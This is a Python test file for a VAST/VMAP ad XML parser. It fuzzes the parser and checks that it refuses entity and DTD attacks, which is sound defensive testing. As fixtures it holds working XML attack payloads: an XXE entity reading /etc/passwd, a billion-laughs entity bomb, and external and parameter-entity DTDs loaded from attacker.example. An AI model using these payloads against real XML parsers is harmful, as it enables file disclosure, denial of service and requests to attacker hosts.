"""The parser's invariant: any input is a model or one of our errors. Entity tricks, DTDs,
deep nesting and oversized input are refused before they cost anything."""

from __future__ import annotations

import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vast import Limits, RawXml, VastError, VastXmlError, parse, parse_vmap
from vast.vocabulary import VAST_NS

FUZZ = settings(max_examples=300, deadline=None, database=None,
                suppress_health_check=list(HealthCheck))

_fragments = st.sampled_from([
    b"<VAST", b' version="4.2"', b">", b"</VAST>", b"<Ad", b' id="1"', b"<InLine>",
    b"</InLine>", b"<Wrapper>", b"</Wrapper>", b"<VASTAdTagURI>", b"</VASTAdTagURI>",
    b"<AdSystem>x</AdSystem>", b"<Impression>https://i</Impression>", b"<Creatives>",
    b"</Creatives>", b"<Creative", b"<Linear", b' skipoffset="x"', b"<Duration>",
    b"00:00:15", b"</Duration>", b"<MediaFiles>", b"<MediaFile", b' width="a"',
    b"</MediaFile>", b"<Extensions><Extension>", b"<![CDATA[", b"]]>", b"&amp;", b"&",
    b"<", b"/>", b"</Ad>", b'<?xml version="1.0"?>', b"\x00", b"\xff", b"<!--", b"-->",
    b"<Tracking", b' event="start"', b'<Extension type="AdVerifications">', b"</Linear>",
    b"<UniversalAdId", b' xmlns="' + VAST_NS.encode() + b'"', b" xmlns:x='u'", b"<x:e>",
])


@FUZZ
@given(st.binary(max_size=2000))
def test_arbitrary_bytes_parse_or_raise_our_error(data):
    try:
        parse(data)
    except VastError:
        pass


@FUZZ
@given(st.lists(_fragments, max_size=40).map(b"".join))
def test_vast_shaped_noise_parses_or_raises_our_error(data):
    try:
        parse(data)
    except VastError:
        pass
    try:
        parse_vmap(data.replace(b"VAST", b"VMAP"))
    except VastError:
        pass


@FUZZ
@given(st.text(max_size=300))
def test_arbitrary_text_parses_or_raises_our_error(data):
    for doc in (data, f'<VAST version="4.2"><Ad><InLine><AdSystem>{data}</AdSystem>'
                      f"<AdTitle>{data}</AdTitle></InLine></Ad></VAST>"):
        try:
            parse(doc)
        except VastError:
            pass


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE VAST [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<VAST version="4.2"><Error>&xxe;</Error></VAST>"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<VAST version="4.2"><Error>&lol9;</Error></VAST>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE VAST SYSTEM "http://attacker.example/evil.dtd">
<VAST version="4.2"/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE VAST [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<VAST version="4.2"/>"""
UNDECLARED_ENTITY = b'<VAST version="4.2"><Error>&xxe;</Error></VAST>'


@pytest.mark.parametrize("payload", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY,
                                     UNDECLARED_ENTITY],
                         ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity",
                              "undeclared-entity"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entity_and_dtd_payloads_are_refused(payload, encoding):
    data = payload
    if encoding == "utf-16":
        data = payload.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>')
        data = data.decode().encode("utf-16")
    start = time.perf_counter()
    with pytest.raises(VastXmlError) as err:
        parse(data)
    assert err.value.code == 100
    assert time.perf_counter() - start < 1.0
    with pytest.raises(VastXmlError):
        parse_vmap(data)


def test_depth_size_and_element_caps():
    deep = b'<VAST version="4.2">' + b"<Ad>" * 100 + b"</Ad>" * 100 + b"</VAST>"
    with pytest.raises(VastXmlError, match="depth"):
        parse(deep)
    with pytest.raises(VastXmlError, match="exceeds"):
        parse(b'<VAST version="4.2">' + b" " * 300 + b"</VAST>", limits=Limits(max_bytes=200))
    many = b'<VAST version="4.2">' + b"<Error>https://e</Error>" * 200 + b"</VAST>"
    with pytest.raises(VastXmlError, match="elements"):
        parse(many, limits=Limits(max_elements=100))
    assert len(parse(many).errors) == 200


def test_raw_xml_only_holds_one_well_formed_element():
    assert RawXml("<Extension><a/></Extension>").tag == "Extension"
    for bad in ("<a>", "text", "<a/><b/>", '<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'):
        with pytest.raises(ValueError):
            RawXml(bad)
